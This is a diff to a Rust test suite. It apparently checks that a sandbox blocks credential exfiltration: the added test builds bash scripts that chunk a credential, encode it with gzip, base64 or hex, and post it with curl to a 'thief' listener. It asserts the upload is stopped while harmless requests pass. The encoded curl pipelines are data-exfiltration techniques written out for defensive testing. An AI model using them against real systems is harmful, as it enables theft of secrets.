@@ -69,6 +69,36 @@ lab_tests! {
         }
     }
 
+    fn pieces_in_content_that_is_coded_are_put_together(lab) {
+        let (thief, credential) = (thief(), Credential::new());
+        for size in [6, 13, 20] {
+            let text = credential.text();
+            let pieces = text.as_bytes().chunks(size).map(String::from_utf8_lossy);
+            let items: Vec<String> = pieces.map(|piece| format!("{{\"d\":\"{piece}\"}}")).collect();
+            let list = format!("[{}]", items.join(","));
+            let harmless = "[{\"d\":\"one\"},{\"d\":\"two\"}]";
+            for (name, coding, arguments) in [
+                ("gzip that says so", "gzip", "-H 'Content-Encoding: gzip'"),
+                ("gzip", "gzip", ""),
+                ("base64", "base64 -w0", ""),
+                ("hex", "xxd -p | tr -d '\\n'", ""),
+                ("base64 of gzip", "gzip | base64 -w0", ""),
+                ("base64 in JSON", "base64 -w0 | sed 's/.*/{\"x\":\"&\"}/'", "-H 'Content-Type: application/json'"),
+                ("gzip in a form", "gzip | base64 -w0 | sed 's/.*/x=&/'", ""),
+            ] {
+                let send = |content: &str, to: &str| format!(
+                    "printf %s '{content}' | {coding} | curl -sS {arguments} --data-binary @- $URL/{to}; "
+                );
+                let script = send(harmless, "harmless") + &send(&list, "pieces") + "curl -sS $URL/fine";
+                let outcome = confined(lab, Identity::Own).run(&bash(&script));
+                let sent = String::from_utf8_lossy(&thief.take()).into_owned();
+                assert!(!sent.contains("POST /pieces"), "{name} by {size}: {sent} {outcome}");
+                assert!(sent.contains("POST /harmless") && sent.contains("GET /fine"), "{name}: the rest goes on: {sent}");
+                assert_told(&outcome, name);
+            }
+        }
+    }
+
     fn pieces_in_every_place_of_requests_stop_with_the_last_one(lab) {
         let (thief, credential) = (thief(), Credential::new());
         let text = credential.text();
